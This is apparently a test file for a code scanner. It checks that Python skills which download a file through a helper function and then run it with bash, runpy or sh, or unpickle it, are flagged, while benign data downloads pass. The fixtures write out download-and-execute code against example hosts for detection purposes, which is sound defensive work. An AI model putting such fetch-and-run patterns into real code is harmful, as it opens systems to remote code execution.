/**
 * A download or a load written inside a helper function is placed at the helper's calls.
 *
 * Python's link facts (where a file saves downloads, which paths it runs or loads as code; joined
 * across the skill by skill-download-exec) read the tree and folded each path where it was
 * written. In `def download(url, dest): urllib.request.urlretrieve(url, dest)` the path is only the
 * parameter, so `download('https://…/setup.sh', P)` followed by `subprocess.run(['bash', P])`
 * passed, as did a response written to `open(dest, 'wb')` in a helper, and a `pickle.load` of
 * `with open(path, 'rb')` in a helper given the downloaded file (the open item
 * "py-pickle-file-download across two functions' parameters"). The walker already expanded such
 * helpers' calls for the call rules, but not for the link facts. Now a path that is a parameter of
 * a plain function defined once takes the value each call in the file passes (positional, keyword
 * or the default), and the fact is placed at that call.
 */
import { scanRunFile } from './skills.js';
import { expectVerdicts } from './verdicts.js';

const run = (_n: string, code: string) => scanRunFile('setup-helper', 'run.py', code);

const retrieve =
  'import urllib.request, subprocess, runpy, pickle\n\ndef download(url, dest):\n    urllib.request.urlretrieve(url, dest)\n\n';

expectVerdicts(
  'a helper that downloads, then the file run or loaded as code, fails',
  [
    [
      'retrieve-then-bash',
      retrieve +
        "P = '/tmp/setup.sh'\ndownload('https://get.example.net/setup.sh', P)\nsubprocess.run(['bash', P])\n",
    ],
    [
      'keywords',
      retrieve +
        "download(dest='/tmp/x.py', url='https://get.example.net/x.py')\nrunpy.run_path('/tmp/x.py')\n",
    ],
    [
      'default-dest',
      "import urllib.request, runpy\n\ndef fetch(url, dest='/tmp/x.py'):\n    urllib.request.urlretrieve(url, dest)\n\nfetch('https://get.example.net/x.py')\nrunpy.run_path('/tmp/x.py')\n",
    ],
    [
      'response-write-helper',
      "import requests, subprocess\n\ndef save(url, dest):\n    r = requests.get(url)\n    with open(dest, 'wb') as f:\n        f.write(r.content)\n\nsave('https://get.example.net/i.sh', '/tmp/i.sh')\nsubprocess.run(['sh', '/tmp/i.sh'])\n",
    ],
    [
      'pickle-two-helpers',
      retrieve +
        "def load(path):\n    with open(path, 'rb') as f:\n        return pickle.load(f)\n\nP = '/tmp/model.pkl'\ndownload('https://models.example.net/m.pkl', P)\nmodel = load(P)\n",
    ],
  ] as const,
  run,
  'fail',
);

expectVerdicts(
  'helpers that download data or load the skill’s own files pass',
  [
    [
      'csv-data',
      retrieve +
        "import csv\ndownload('https://data.example.net/d.csv', '/tmp/d.csv')\nprint(len(list(csv.reader(open('/tmp/d.csv')))))\n",
    ],
    [
      'other-file-run',
      retrieve +
        "download('https://data.example.net/d.json', '/tmp/d.json')\nsubprocess.run(['bash', 'scripts/setup.sh'])\n",
    ],
    [
      'load-shipped-model',
      "import os, pickle, urllib.request\nHERE = os.path.dirname(os.path.abspath(__file__))\n\ndef load(path):\n    with open(path, 'rb') as f:\n        return pickle.load(f)\n\nurllib.request.urlretrieve('https://data.example.net/d.csv', '/tmp/d.csv')\nmodel = load(os.path.join(HERE, 'model.pkl'))\n",
    ],
    [
      'json-response-helper',
      "import json, requests\n\ndef save(url, dest):\n    r = requests.get(url)\n    with open(dest, 'wb') as f:\n        f.write(r.content)\n\nsave('https://api.example.net/v1/items', '/tmp/items.json')\nprint(json.load(open('/tmp/items.json')))\n",
    ],
  ] as const,
  run,
  'pass',
);
